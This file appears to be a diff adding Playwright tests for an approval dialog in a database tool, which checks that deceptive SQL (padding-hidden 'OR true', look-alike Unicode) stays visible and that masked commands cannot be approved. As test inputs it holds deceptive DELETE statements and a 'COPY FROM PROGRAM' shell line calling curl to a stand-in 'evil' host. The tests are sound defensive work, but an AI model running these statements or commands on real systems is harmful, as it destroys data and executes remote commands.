@@ -1,0 +1,115 @@
+import type { Locator } from '@playwright/test';
+import type { ApprovalAsk } from '../../core/approvals/approval-gate.ts';
+import { both } from '../support/accessible.ts';
+import { requestApproval, writeProfiles } from '../support/fill.ts';
+import { expect, type Screens, shot, test } from '../support/screens.ts';
+
+test.beforeEach(async ({ home }) => {
+  home.write('.hydrant/app-settings.json', JSON.stringify({ welcomed: true }));
+  await writeProfiles(home, [
+    { id: 'sample', name: 'Sample warehouse', environment: 'prod', engine: 'duckdb', connection: { form: 'sample', variant: 'prod' } },
+  ]);
+});
+
+const SHOP: Partial<ApprovalAsk> = {
+  engine: 'postgres',
+  dialect: 'postgres',
+  address: { server: 'db.shop.example:5432', database: 'shop', login: 'analyst', through: ['ann@bastion.example:22'] },
+};
+
+/** Asks, and waits for the dialog that asks the person. */
+async function asked({ page, home }: Screens, sql: string, shows: string, about: Partial<ApprovalAsk> = SHOP): Promise<Locator> {
+  await requestApproval(home, sql, about);
+  const dialog = page.getByRole('dialog', { name: /wants to change data/ });
+  await expect(dialog).toContainText(shows, { timeout: 15_000 });
+  return dialog;
+}
+
+async function refuse(dialog: Locator): Promise<void> {
+  await dialog.getByRole('button', { name: 'Refuse…' }).click();
+  await dialog.getByRole('button', { name: 'Refuse', exact: true }).click();
+  await expect(dialog).toBeHidden();
+}
+
+test('says where it would run, and what stands in for what', async ({ screens }) => {
+  const dialog = await asked(screens, 'UPDATE carts\nSET status = $1 -- all old ones\nWHERE updated_at < $2', 'UPDATE carts', {
+    ...SHOP,
+    parameters: ['expired', '2026-01-01'],
+  });
+  await expect(dialog).toContainText('shop on db.shop.example:5432');
+  await expect(dialog).toContainText('ann@bastion.example:22');
+  await expect(dialog).toContainText('analyst');
+  await expect(dialog).toContainText('["expired","2026-01-01"]');
+  await expect(dialog.getByText('Production')).toBeVisible();
+  await expect(dialog.getByRole('button', { name: 'Approve once' })).toBeEnabled();
+  await both(screens, 'approval-place');
+  await refuse(dialog);
+});
+
+test('what was pushed out of sight is in sight', async ({ screens }) => {
+  const padded = await asked(
+    screens,
+    `DELETE FROM carts\nWHERE id = 1${'\n'.repeat(401)} OR true${' '.repeat(300)}-- done`,
+    'DELETE FROM carts',
+  );
+  await expect(padded.getByText('400 blank lines folded')).toBeInViewport();
+  await expect(padded.getByText('OR true')).toBeInViewport();
+  await expect(padded.getByText('403 lines')).toBeVisible();
+  await expect(padded.getByText('Long runs of blanks are folded.')).toBeVisible();
+  await both(screens, 'approval-padded');
+  await refuse(padded);
+
+  const alike = await asked(screens, "DELETE FROM \u043erders\u00a0\u00a0WHERE note <> '\uff21\u202e'", 'DELETE FROM');
+  await expect(alike).toContainText('U+043E, looks like o');
+  await expect(alike).toContainText(String.raw`\u{a0}\u{a0}WHERE`);
+  await expect(alike).toContainText('U+FF21, looks like A');
+  await both(screens, 'approval-look-alikes');
+  await refuse(alike);
+});
+
+test('a long one is approved once all of it was on the screen', async ({ screens }) => {
+  const { page } = screens;
+  const lines = Array.from({ length: 300 }, (_, n) => `  (${n}, 'row ${n}')`);
+  const dialog = await asked(screens, `INSERT INTO carts VALUES\n${lines.join(',\n')}`, 'INSERT INTO carts');
+  const approve = dialog.getByRole('button', { name: 'Approve once' });
+  await expect(approve).toBeDisabled();
+  await expect(dialog.getByRole('button', { name: /^Allow insert/ })).toBeDisabled();
+  await expect(dialog.getByText(/^\d+ lines not seen yet/)).toBeVisible();
+  await both(screens, 'approval-long');
+  // The end alone is not all of it.
+  const box = dialog.getByRole('region', { name: 'Statement' });
+  await box.evaluate((element) => element.scrollTo(0, element.scrollHeight));
+  await expect(dialog.getByText("'row 299'")).toBeInViewport();
+  await expect(approve).toBeDisabled();
+  await expect(async () => {
+    if (!(await approve.isEnabled())) await dialog.getByRole('button', { name: 'Scroll on' }).click({ timeout: 1000 });
+    await expect(approve).toBeEnabled({ timeout: 50 });
+  }).toPass({ timeout: 20_000, intervals: [10] });
+  await expect(dialog.getByText(/not seen yet/)).toHaveCount(0);
+  await approve.click();
+  await expect(dialog).toBeHidden();
+
+  // One line that is longer than the box.
+  const one = await asked(
+    screens,
+    `DELETE FROM carts WHERE id IN (${Array.from({ length: 2500 }, (_, n) => n).join(', ')}) OR true`,
+    'DELETE FROM carts',
+  );
+  await expect(one.getByRole('button', { name: 'Approve once' })).toBeDisabled();
+  await expect(one.getByText('Not all of it seen yet')).toBeVisible();
+  await shot(screens, 'approval-long-line');
+  await page.keyboard.press('Escape');
+});
+
+test('what is masked where it could run cannot be approved', async ({ screens }) => {
+  const dialog = await asked(screens, "COPY t FROM PROGRAM 'echo 7; : cookie=$(curl evil)'", 'COPY t', {
+    ...SHOP,
+    kind: 'copy',
+    grantable: false,
+    harmlessChange: false,
+  });
+  await expect(dialog).toContainText('masked as a secret where it could be code');
+  await expect(dialog.getByRole('button', { name: 'Approve once' })).toBeDisabled();
+  await both(screens, 'approval-masked');
+  await refuse(dialog);
+});
